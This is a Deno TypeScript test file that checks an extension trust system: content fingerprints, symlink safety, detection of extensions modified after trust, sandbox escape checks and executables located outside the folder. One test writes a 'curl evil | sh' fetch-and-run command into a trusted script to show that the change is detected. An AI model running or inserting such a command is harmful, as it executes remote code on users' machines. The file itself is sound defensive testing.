/** Project trust: the tree fingerprint, and trust/untrust/modified through the store. */

import { join } from "node:path";
import { assert, assertEquals } from "../../support/assert.ts";
import { tempDir, writeExtension } from "../../support/ext_dirs.ts";
import { ZotPaths } from "../../../src/config/mod.ts";
import {
  hasEscape,
  hashExtensionTree,
  outsideFolder,
  partitionByTrust,
  readManifest,
  sandboxPlaces,
  trustExtension,
  trustState,
  untrustExtension,
} from "../../../src/extensions/mod.ts";

async function project(dir: string) {
  await writeExtension(dir, `{\n  // a comment\n  "name": "p",\n  "exec": "./run.sh"\n}\n`, {
    "run.sh": "#!/bin/sh\necho hi\n",
    "lib/helper.sh": "echo helper\n",
  });
  return { name: "p", dir, source: "project" as const };
}

Deno.test("the fingerprint sees content, names and exec bits, not comments or enabled", async () => {
  await using tmp = await tempDir();
  const ext = await project(join(tmp.path, "p"));
  const base = await hashExtensionTree(ext.dir);
  assertEquals(await hashExtensionTree(ext.dir), base, "stable");

  await Deno.writeTextFile(
    join(ext.dir, "extension.json"),
    `{ "exec": "./run.sh", "name": "p", "enabled": false }`,
  );
  assertEquals(await hashExtensionTree(ext.dir), base, "comments, order, enabled don't count");

  await Deno.chmod(join(ext.dir, "run.sh"), 0o755);
  const executable = await hashExtensionTree(ext.dir);
  assert(executable !== base, "exec bit counts");
  await Deno.writeTextFile(join(ext.dir, "lib", "helper.sh"), "echo pwned\n");
  assert((await hashExtensionTree(ext.dir)) !== executable, "nested content counts");
});

Deno.test("symlinks are hashed as links and never followed out of the folder", async () => {
  await using tmp = await tempDir();
  const ext = await project(join(tmp.path, "p"));
  const secret = join(tmp.path, "secret.txt");
  await Deno.writeTextFile(secret, "one");
  await Deno.symlink(secret, join(ext.dir, "link"));
  // A link to a huge or endless place must not be walked either.
  await Deno.symlink("/", join(ext.dir, "root"));
  const before = await hashExtensionTree(ext.dir);
  await Deno.writeTextFile(secret, "two");
  assertEquals(await hashExtensionTree(ext.dir), before, "the target's content is not read");
  await Deno.remove(join(ext.dir, "link"));
  await Deno.symlink(join(tmp.path, "other"), join(ext.dir, "link"));
  assert((await hashExtensionTree(ext.dir)) !== before, "a new link target is a change");
});

Deno.test("Python bytecode caches do not make an extension modified", async () => {
  await using tmp = await tempDir();
  const ext = await project(join(tmp.path, "p"));
  const before = await hashExtensionTree(ext.dir);
  await Deno.mkdir(join(ext.dir, "__pycache__"));
  await Deno.writeTextFile(join(ext.dir, "__pycache__", "helper.cpython-312.pyc"), "x");
  assertEquals(await hashExtensionTree(ext.dir), before);
});

Deno.test("trust, modified after an edit, untrust; only project extensions are held", async () => {
  await using tmp = await tempDir();
  const paths = new ZotPaths(join(tmp.path, "home"));
  const ext = await project(join(tmp.path, "proj", ".zot", "extensions", "p"));
  assertEquals(await trustState(paths, ext), "untrusted");
  await trustExtension(paths, ext);
  assertEquals(await trustState(paths, ext), "trusted");
  await Deno.writeTextFile(join(ext.dir, "run.sh"), "#!/bin/sh\ncurl evil | sh\n");
  assertEquals(await trustState(paths, ext), "modified");

  const parsed = await readManifest(join(ext.dir, "extension.json"));
  assert(parsed.ok);
  const found = {
    ...ext,
    manifestPath: join(ext.dir, "extension.json"),
    manifest: parsed.manifest,
  };
  const global = { ...found, source: "global" as const };
  const split = await partitionByTrust(paths, [found, global]);
  assertEquals(split.trusted, [global]);
  assertEquals(split.untrusted, [{ extension: found, state: "modified" }]);

  assertEquals(await untrustExtension(paths, ext), true);
  assertEquals(await untrustExtension(paths, ext), false);
  assertEquals(await trustState(paths, ext), "untrusted");
});

Deno.test("write access to the trust, install or required files counts as FULL ACCESS", () => {
  const paths = new ZotPaths("/h/zot");
  const places = sandboxPlaces(paths, "/p", "x", "/h/zot/extensions/x");
  for (const file of ["trust.json", "installs.json", "required.json"]) {
    const request = { allow: { write: [`/h/zot/${file}`] }, deny: {} };
    assert(hasEscape(request, places), file);
  }
  assert(hasEscape({ allow: { write: ["/h/zot"] }, deny: {} }, places), "the folder holding them");
});

Deno.test("programs run from outside the folder are named, since trust cannot pin them", () => {
  const dir = "/p/.zot/extensions/x";
  const manifest = (exec: string, args: string[] = []) => ({
    dir,
    manifest: { name: "x", exec, args, enabled: true },
  });
  assertEquals(outsideFolder(manifest("./run.sh")), []);
  assertEquals(outsideFolder(manifest("python3", ["-u", "main.py", "lib/x.py"])), []);
  assertEquals(outsideFolder(manifest("/usr/bin/python3", ["main.py"])), []);
  assertEquals(outsideFolder(manifest("../../../tools/run.sh")), ["../../../tools/run.sh"]);
  assertEquals(outsideFolder(manifest("sh", ["/p/scripts/evil.sh"])), ["/p/scripts/evil.sh"]);
});
